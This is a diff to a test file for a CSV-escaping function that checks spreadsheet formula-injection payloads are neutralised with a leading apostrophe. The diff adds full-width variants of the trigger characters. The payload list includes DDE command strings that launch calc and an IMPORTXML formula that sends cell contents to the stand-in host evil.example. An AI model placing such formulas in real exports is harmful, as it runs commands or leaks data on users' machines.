@@ -9,13 +9,17 @@ const PAYLOADS = [
   "+1+cmd|' /C calc'!A0",
   "-2+3+cmd|' /C calc'!A0",
   "@SUM(1+1)*cmd|' /C calc'!A0",
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1+1)',
   '\t=1+1',
   '\r=1+1',
   '=1+1";=1+1',
   '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a/a10")',
 ];
 
-describe('csvCell (READINGS 111)', () => {
+describe('csvCell (rule 111)', () => {
   test.each(PAYLOADS)('%j is text, and comes back whole behind its apostrophe', (payload) => {
     const [[cell]] = parse(csvCell(payload), { delimiter: ';', relax_quotes: false }) as [[string]];
     expect(cell).toBe(`'${payload}`);
